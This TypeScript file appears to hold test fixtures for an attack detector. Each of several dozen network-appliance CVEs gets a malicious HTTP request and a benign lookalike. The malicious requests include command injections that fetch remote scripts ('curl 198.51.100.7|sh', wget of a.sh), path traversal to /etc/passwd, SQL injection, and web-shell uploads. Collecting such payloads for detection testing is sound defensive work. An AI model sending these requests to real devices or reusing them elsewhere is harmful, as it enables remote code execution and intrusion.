import type { Cases } from './cases.ts';

export const appliances: Cases = {
  'CVE-2019-3929': [
    'POST /cgi-bin/file_transfer.cgi\n\nfile_transfer=new&dir=%27Pa_Noteexpr%20curl%2b198.51.100.7%27%60id%60',
    'POST /cgi-bin/file_transfer.cgi\n\nfile_transfer=new&dir=home',
  ],
  'CVE-2020-25078': ['GET /config/getuser?index=0', 'GET /app/config/getuserlist'],
  'CVE-2021-40655': [
    'POST /getcfg.php\n\nA=A%0a_POST_SERVICES%3dDEVICE.ACCOUNT%0aAUTHORIZED_GROUP%3d1',
    'POST /getcfg.php\n\nSERVICES=DEVICE.TIME',
  ],
  'CVE-2019-20500': [
    'POST /admin.cgi?action=config_save\n\nconfigBackup=;id;&downloadServerip=1',
    'POST /admin.cgi?action=config_save\n\nconfigBackup=today',
  ],
  'CVE-2019-16057': [
    'GET /cgi-bin/login_mgr.cgi?C1=ON&cmd=login&f_type=1&f_username=admin&port=80%26id%3B&pre_pwd=1&pwd=a&ssl=1&ssl_port=1',
    'POST /cgi-bin/login_mgr.cgi\n\ncmd=login&port=80&username=anna',
  ],
  'CVE-2023-43261': ['GET /lang/log/httpd.log', 'GET /log/httpd.log'],
  'CVE-2023-47218': [
    'POST /cgi-bin/quick/quick.cgi?func=switch_os&todo=uploaf_firmware_image\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="a"; filename="%22$($(echo -n aWQ=|base64 -d))%22"\r\n\r\nx',
    'GET /cgi-bin/quick/quick.html',
  ],
  'CVE-2024-27130': [
    'POST /cgi-bin/filemanager/share.cgi\n\nssid=a&func=get_file_size&total=1&path=/&name=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
    'POST /cgi-bin/filemanager/share.cgi\n\nssid=a&func=get_file_size&path=/&name=photo.jpg',
  ],
  'CVE-2022-27593': [
    'GET /photo/combine.php?type=javascript&g=core-r7rules/../../../hello.php',
    'GET /photo/combine.php?type=javascript&g=core',
  ],
  'CVE-2023-38950': [
    'GET /iclock/file?SN=win&url=/../../../../../../../../windows/win.ini',
    'GET /iclock/file?SN=CKUH&url=/photo/1.jpg',
  ],
  'CVE-2023-52163': [
    'POST /cgi-bin/cgi_main.cgi\n\ncgiName=time_tzsetup.cgi&TZ_str=a&ntp=`curl 198.51.100.7|sh`',
    'POST /cgi-bin/cgi_main.cgi\n\ncgiName=time_tzsetup.cgi&ntp=pool.ntp.example',
  ],
  'CVE-2023-3722': ['PUT /PhoneBackup/a.php\n\n<?php system(1);', 'GET /PhoneBackup/46xxsettings.txt'],
  'CVE-2024-6047': [
    'POST /DateSetting.cgi\n\ndwTimeZone=2&dwGain=0&szSrvIpAddr=time.windows.com;$(cd /tmp;wget 198.51.100.7/b)&dwTimeFmt=0',
    'POST /DateSetting.cgi\n\ndwTimeZone=2&szSrvIpAddr=time.example.org',
  ],
  'CVE-2024-29269': [
    'GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=id',
    'GET /cgi-bin/admin.cgi?Command=getTime',
  ],
  'CVE-2024-1212': [
    'GET /access/set?param=enableapi&value=1\nAuthorization: Basic JztlY2hvICdhJzonYQ==',
    'GET /access/settings?tab=param',
  ],
  'CVE-2022-37061': [
    'POST /res.php\n\naction=node&resource=;id',
    'POST /res.php\n\naction=node&resource=.image.sysimg',
  ],
  'CVE-2022-36553': [
    'GET /cgi-bin/popen.cgi?command=ping%20-c%204%201.1.1.1;id&v=0.1',
    'GET /cgi-bin/popen.html',
  ],
  'CVE-2022-40881': [
    'POST /network_test.php\n\nhost=%0aid%0a&command=ping',
    'POST /network_test.php\n\nhost=192.0.2.1&command=ping',
  ],
  'CVE-2023-28343': [
    'POST /index.php/management/set_timezone\n\ntimezone=`id`',
    'POST /index.php/management/set_timezone\n\ntimezone=Europe/Oslo',
  ],
  'CVE-2021-20123': [
    'GET /ACSServer/DownloadFileServlet?show_file_name=../../../../../../etc/passwd&type=uploadfile&path=anything',
    'GET /ACSServer/DownloadFileServlet?show_file_name=a.cfg',
  ],
  'CVE-2021-20124': [
    'GET /ACSServer/WebServlet?act=getMapImg_acs2&filename=../../../../../../../etc/passwd',
    'GET /ACSServer/WebServlet?act=getMapImg_acs2&filename=floor1.png',
  ],
  'CVE-2021-26828': [
    'POST /ScadaBR/view_edit.shtm\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="backgroundImageMP"; filename="a.jsp"\r\n\r\n<% %>',
    'POST /ScadaBR/view_edit.shtm\nContent-Type: multipart/form-data; boundary=a\n\n--a\r\nContent-Disposition: form-data; name="backgroundImageMP"; filename="a.png"\r\n\r\nPNG',
  ],
  'CVE-2021-27860': [
    'POST /fpui/uploadConfigServlet?fileNumber=undefined\n\n<jsp/>',
    'GET /fpui/jsp/login.jsp',
  ],
  'CVE-2021-31755': [
    'POST /goform/setmac\n\nmodule1=wifiBasicCfg&doubleBandUnityEnable=false&mac=;wget%20198.51.100.7/a;',
    'POST /goform/setmac\n\nmac=00:11:22:33:44:55',
  ],
  'CVE-2021-35395': [
    'POST /goform/formWsc\n\nsubmit-url=%2Fwlwps.asp&resetUnCfg=0&peerPin=12345678;cd%20/tmp;wget%20198.51.100.7/a.sh;&setPIN=Start+PIN',
    'POST /goform/formWsc\n\npeerPin=12345670&setPIN=Start+PIN',
  ],
  'CVE-2021-41653': [
    'POST /cgi?2\n\n[IPPING_DIAG#0,0,0,0,0,0#0,0,0,0,0,0]0,6\r\ndataBlockSize=64\r\nhost=$(echo 127.0.0.1; id)\r\n',
    'POST /cgi?2\n\n[IPPING_DIAG#0,0,0,0,0,0#0,0,0,0,0,0]0,6\r\nhost=192.0.2.1\r\n',
  ],
  'CVE-2017-5521': ['POST /passwordrecovered.cgi?id=1289\n\n', 'GET /docs/passwordrecovered.html'],
  'CVE-2019-12989': [
    'POST /sdwan/nitro/v1/config/get_package_file?action=file_download\nSSL_CLIENT_VERIFY: SUCCESS\n\n{"get_package_file":{"site_name":"a\'union select 1","appliance_type":"primary","package_type":"active"}}',
    'GET /sdwan/nitro/v1/config/status',
  ],
  'CVE-2021-46417': [
    'GET /18198/cgi-bin/tsaupload.cgi?file_name=../../../../../../etc/passwd&password=',
    'GET /18198/cgi-bin/tsaupload.cgi?file_name=a.csv',
  ],
  'CVE-2024-51482': [
    'GET /zm/index.php?view=request&request=event&action=removetag&tid=1+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)',
    'GET /zm/index.php?view=request&request=event&action=removetag&tid=4',
  ],
  'CVE-2023-30258': [
    'GET /mbilling/lib/icepay/icepay.php?democ=;sleep+5;',
    'GET /mbilling/lib/icepay/readme.txt',
  ],
  'CVE-2025-2611': [
    'GET /login.php\nCookie: BROADCAST=`sleep${IFS}3`',
    'GET /login.php\nCookie: BROADCAST=4f2aa1',
  ],
  'CVE-2024-8503': [
    'GET /VERM/VERM_AJAX_functions.php?function=log_custom_report\nAuthorization: Basic JyBPUiAoU0VMRUNUIFNMRUVQKDUpKSAtLSA6YQ==',
    'GET /VERM/VERM_main_report_page.php',
  ],
  'CVE-2022-3236': [
    'POST /userportal/Controller\n\nmode=151&json={"username":"a","_discriminator":{"value":"../../"}}',
    'POST /userportal/Controller\n\nmode=151&json={"username":"a"}',
  ],
};
